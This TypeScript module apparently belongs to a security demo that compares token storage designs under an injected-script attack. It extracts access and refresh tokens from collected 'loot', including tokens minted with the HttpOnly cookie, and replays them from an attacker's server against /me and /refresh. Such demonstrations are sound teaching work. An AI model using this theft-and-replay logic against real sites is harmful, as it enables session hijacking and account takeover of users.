/**
 * What the collector's loot is worth to the attacker: the tokens it can replay from its own
 * server, and what the injected script did while the page was open.
 */
import { type LootEntry, type ReplayAnswer, replayFromAttacker } from '../attacks-client.ts';

export interface Stolen {
  /** localStorage's access token (documents' mode). */
  readonly storedAccessToken: string | null;
  /** localStorage's refresh token (documents' mode): refreshes from anywhere. */
  readonly refreshToken: string | null;
  /** The access token the script minted through /refresh with the HttpOnly cookie. */
  readonly mintedAccessToken: string | null;
  readonly mintedStatus: number | null;
  /** GET /api/session/me sent by the script with the session cookie. */
  readonly ridingStatus: number | null;
  /** The best access token to replay: the freshest one. */
  readonly accessToken: string | null;
}

interface Answer {
  readonly status?: number;
  readonly body?: { readonly access_token?: string };
}

const lastOf = (loot: readonly LootEntry[], kind: string) =>
  loot.filter((entry) => entry.kind === kind).at(-1)?.data;

const stringOr = (value: unknown) => (typeof value === 'string' && value !== '' ? value : null);

export function findStolen(loot: readonly LootEntry[]): Stolen {
  const storage = (lastOf(loot, 'localStorage') ?? {}) as Record<string, unknown>;
  const minted = (lastOf(loot, 'minted-access-token') ?? {}) as Answer;
  const riding = (lastOf(loot, 'session-riding') ?? {}) as Answer;
  const storedAccessToken = stringOr(storage.access_token);
  const mintedAccessToken = stringOr(minted.body?.access_token);
  return {
    storedAccessToken,
    refreshToken: stringOr(storage.refresh_token),
    mintedAccessToken,
    mintedStatus: minted.status ?? null,
    ridingStatus: riding.status ?? null,
    accessToken: mintedAccessToken ?? storedAccessToken,
  };
}

export interface Replayed {
  readonly route: string;
  readonly what: string;
  readonly answer: ReplayAnswer;
}

/** The attacker's server uses what was stolen: the access token, then the refresh token. */
export async function replayStolen(stolen: Stolen): Promise<Replayed[]> {
  const results: Replayed[] = [];
  if (stolen.accessToken !== null) {
    const answer = await replayFromAttacker({
      api: 'jwt',
      route: 'GET /me',
      bearer: stolen.accessToken,
    });
    results.push({ route: 'GET /me', what: 'access token', answer });
  }
  if (stolen.refreshToken !== null) {
    const answer = await replayFromAttacker({
      api: 'jwt',
      route: 'POST /refresh',
      refresh_token: stolen.refreshToken,
    });
    results.push({ route: 'POST /refresh', what: 'refresh token', answer });
  }
  return results;
}
